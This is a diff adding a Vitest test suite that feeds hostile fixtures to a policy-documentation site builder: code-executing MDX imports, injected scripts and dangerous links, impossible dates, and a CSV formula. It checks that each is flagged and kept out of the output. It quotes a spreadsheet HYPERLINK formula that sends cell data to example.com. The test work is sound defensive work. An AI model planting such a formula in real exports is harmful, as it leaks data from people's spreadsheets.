@@ -1,0 +1,81 @@
+// Hostile and careless inputs (test/fixtures/hostile/, each an overlay on the valid fixture), each with
+// its exact outcome: what `check` says, whether the build runs, and what reaches the output.
+import { existsSync } from 'node:fs';
+import { readFile, readdir, rm } from 'node:fs/promises';
+import path from 'node:path';
+import { afterAll, describe, expect, test } from 'vitest';
+import { buildIsolated } from '../../scripts/lib/astro-build.ts';
+import { runChecks } from '../../src/model/checks/index.ts';
+import { loadCorpus } from '../../src/model/load/load-corpus.ts';
+import { FIXTURE_AS_OF, materialiseFixture } from '../load-fixture.ts';
+
+const dirs: string[] = [];
+afterAll(() => Promise.all(dirs.map((d) => rm(d, { recursive: true, force: true }))));
+
+async function hostile(name: string) {
+  const root = await materialiseFixture(`hostile/${name}`);
+  dirs.push(root);
+  const problems = runChecks(await loadCorpus({ root }), { asOf: FIXTURE_AS_OF });
+  const at = (code: string) => problems.filter((p) => p.code === code).map((p) => `${p.file}:${p.line}:${p.column}`);
+  return { root, problems, at, build: () => buildIsolated(path.join(root, 'dist'), { CLAUSEBOOK_ROOT: root, CLAUSEBOOK_AS_OF: FIXTURE_AS_OF, CLAUSEBOOK_HISTORY: 'off' }) };
+}
+
+/** Every built file's text (HTML, JS, CSS, JSON, CSV) joined: what a reader's browser could get. */
+async function output(dir: string): Promise<string> {
+  const texts: string[] = [];
+  for (const file of await readdir(dir, { recursive: true })) {
+    if (/\.(html|js|css|json|csv|txt)$/.test(String(file))) texts.push(await readFile(path.join(dir, String(file)), 'utf8'));
+  }
+  return texts.join('\n');
+}
+
+describe('a document that imports node:fs and writes a file in an export', () => {
+  test('should be refused by check at its lines, and never run in the build', async () => {
+    const { root, at, problems, build } = await hostile('code-execution');
+    expect(at('CB307')).toEqual(['content/policies/runs-code.mdx:14:1', 'content/policies/runs-code.mdx:16:1']);
+    expect(problems.find((p) => p.code === 'CB307')!.message).toContain("import { writeFileSync } from 'node:fs'");
+    const result = await build();
+    expect(result.ok).toBe(false);
+    expect(result.output).toContain('content/policies/runs-code.mdx:14:1  error  CB307');
+    expect(existsSync(path.join(root, 'code-ran.txt'))).toBe(false);
+  });
+});
+
+describe('a public page with scripts, an external image, a frame and dangerous links', () => {
+  test('should warn about each, build, and publish none of them', async () => {
+    const { root, at, build } = await hostile('script-and-image');
+    expect(at('CB308')).toEqual([16, 18, 22].map((line) => `content/policies/hostile-page.mdx:${line}:1`).concat('content/policies/hostile-page.mdx:26:24'));
+    expect(at('CB309')).toEqual(['content/policies/hostile-page.mdx:20:1', 'content/policies/hostile-page.mdx:24:1', 'content/policies/hostile-page.mdx:24:34', 'content/policies/hostile-page.mdx:24:63']);
+    const result = await build();
+    expect(result.ok, result.output).toBe(true);
+    const text = await output(path.join(root, 'dist'));
+    for (const canary of ['kxscriptq', 'kxremotescriptq', 'kximageq', 'kxframeq', 'kxjavascriptq', 'kxdataq', 'kxhttpq', 'kxonclickq']) expect(text, canary).not.toContain(canary);
+    const page = await readFile(path.join(root, 'dist/policies/hostile-page/index.html'), 'utf8');
+    expect(page).toContain('<kbd>Ctrl</kbd>');
+    expect(page).toContain('<abbr title="合作管理办公室">CMO</abbr>');
+    expect(page).toContain('href="https://example.org/kept"');
+    expect(page).toMatch(/<meta http-equiv="content-security-policy" content="default-src 'self';/);
+  });
+});
+
+describe('impossible dates, unquoted (YAML would roll them over) and quoted', () => {
+  test('should be refused by name, at the line, instead of becoming another day', async () => {
+    const { problems } = await hostile('impossible-dates');
+    const dates = problems.filter((p) => p.code === 'CB101').map((p) => [p.line, p.message]);
+    expect(dates).toEqual([
+      [9, '"effective": "2026-13-45" is not a day of the calendar; expected a real date written YYYY-MM-DD'],
+      [10, '"review_by": "2027-02-30" is not a day of the calendar; expected a real date written YYYY-MM-DD'],
+    ]);
+  });
+});
+
+describe('a spreadsheet formula in the statement of applicability', () => {
+  test('should reach the CSV exports as text that no spreadsheet runs', async () => {
+    const { root, build } = await hostile('csv-formula');
+    const result = await build();
+    expect(result.ok, result.output).toBe(true);
+    const soa = await readFile(path.join(root, 'dist/soa.csv'), 'utf8');
+    expect(soa).toContain(`"'=HYPERLINK(""https://example.com/?""&A1,""点击查看"")"`);
+    expect(soa).not.toMatch(/(^|,)"?=/m);
+  });
+});
